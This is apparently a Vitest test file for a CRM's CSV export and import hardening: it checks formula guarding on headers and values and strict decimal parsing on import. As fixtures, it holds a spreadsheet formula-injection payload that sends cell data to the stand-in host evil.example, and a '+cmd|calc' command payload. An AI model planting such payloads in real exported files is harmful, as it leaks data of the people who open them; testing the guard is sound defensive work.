// Issue 9, finding 10 (CSV items): export header labels (tenant config) are formula-guarded like
// every cell, with the one guard the browser's CSV writer uses too; the import reads numbers as
// plain decimals only (0x1F was 31).
import { describe, expect, it } from 'vitest'
import { csvField, toCsv } from '../../app/components/crm/csv'
import { guardFormula } from '../../server/config-language/csv'
import { useHarness } from '../support/harness'
import { useHttpApp } from '../support/http-app'

const h = useHarness()
const http = useHttpApp(h)

const CUSTOMER_FIELDS = { namespace: 'objects' as const, entity: 'customer', key: 'fields' }
const EVIL_LABEL = '=HYPERLINK("http://evil.example/?"&A2,"Open")'

/** Header line of an export: cells split on commas outside quotes, quotes undone. */
function headerCells(text: string): string[] {
  const line = text.replace(/^\uFEFF/, '').split('\r\n')[0]!
  return [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'))
}

describe('CSV hardening', () => {
  it('formula-guards header labels from config exactly like values', async () => {
    const admin = await h.asUser('admin@globex.test', 'globex')
    const item = await admin.config.get(CUSTOMER_FIELDS)
    const content = item.content as { fields: object[] }
    const saved = await admin.config.saveDraft({
      ...CUSTOMER_FIELDS,
      expectedRevision: item.draftRevision,
      content: { fields: [...content.fields, { name: 'evil', label: EVIL_LABEL, type: 'text' }, { name: 'plus', label: '+cmd|calc', type: 'text' }] },
    })
    expect(saved.errors).toEqual([])
    const { version } = await admin.config.list()
    await admin.config.publish({ expectedVersion: version, message: 'labels a spreadsheet would run' })
    await admin.customers.create({ values: { name: 'Evil Co', data: { evil: EVIL_LABEL, plus: '-2+3' } } })

    const { token } = await h.issueToken('globex', 'VIEWER')
    const res = await fetch(`${http.baseUrl}/api/crm/customers/export.csv`, { headers: { authorization: `Bearer ${token}` } })
    expect(res.status).toBe(200)
    const text = await res.text()
    const header = headerCells(text)
    expect(header).toContain(`'${EVIL_LABEL}`)
    expect(header).toContain(`'+cmd|calc`)
    expect(header).not.toContain(EVIL_LABEL)
    // The same guard for the value in the same column.
    expect(text).toContain(`"'${EVIL_LABEL.replace(/"/g, '""')}"`)
    expect(text).toContain(`'-2+3`)
  })

  it('uses the one guard in the browser writer too, headers included', () => {
    for (const s of [EVIL_LABEL, '@SUM(A1)', '-2+3', '\t=1', '-5', '+1.5e3', 'plain'])
      expect(csvField(s).replace(/^"|"$/g, '').replace(/""/g, '"')).toBe(guardFormula(s))
    expect(toCsv(['=cmd'], [['x']])).toBe("'=cmd\r\nx\r\n")
    // A plain number is no formula: left alone.
    expect(guardFormula('-12.5')).toBe('-12.5')
  })

  it('imports numbers as plain decimals only: hex, octal, binary, Infinity and bare separators are per-row errors', async () => {
    const agent = await h.asUser('agent@acme.test', 'acme')
    const refused = ['0x1F', '0X1f', '0o17', '0b11', 'Infinity', '-Infinity', 'NaN', ',', '_', '1e400', '1.2.3', '--1', '0x', '١٢']
    const accepted: [string, number][] = [
      ['31', 31],
      ['12.50', 12.5],
      ['+7', 7],
      ['.5', 0.5],
      ['1e3', 1000],
      ['2.5E-1', 0.25],
      ['1,200,000', 1_200_000],
      ['0031', 31],
    ]
    const rows = [...refused, ...accepted.map(([t]) => t)].map((v, i) => ({ Name: `Number ${i}`, Revenue: v }))
    const results = await agent.customers.importRows({ rows, mapping: { Name: 'name', Revenue: 'annualRevenue' }, dryRun: true })
    refused.forEach((text, i) => {
      expect(results[i], text).toMatchObject({ ok: false, errors: [{ path: 'data.annualRevenue', column: 'Revenue', message: 'must be a number' }] })
    })
    accepted.forEach((_, j) => expect(results[refused.length + j], accepted[j]![0]).toEqual({ index: refused.length + j, ok: true }))

    const written = await agent.customers.importRows({
      rows: accepted.map(([t], i) => ({ Name: `Decimal ${i}`, Revenue: t })),
      mapping: { Name: 'name', Revenue: 'annualRevenue' },
    })
    const values = await Promise.all(written.map(async (r) => (await agent.customers.get({ id: r.id! })).data.annualRevenue))
    expect(values).toEqual(accepted.map(([, n]) => n))
  })
})
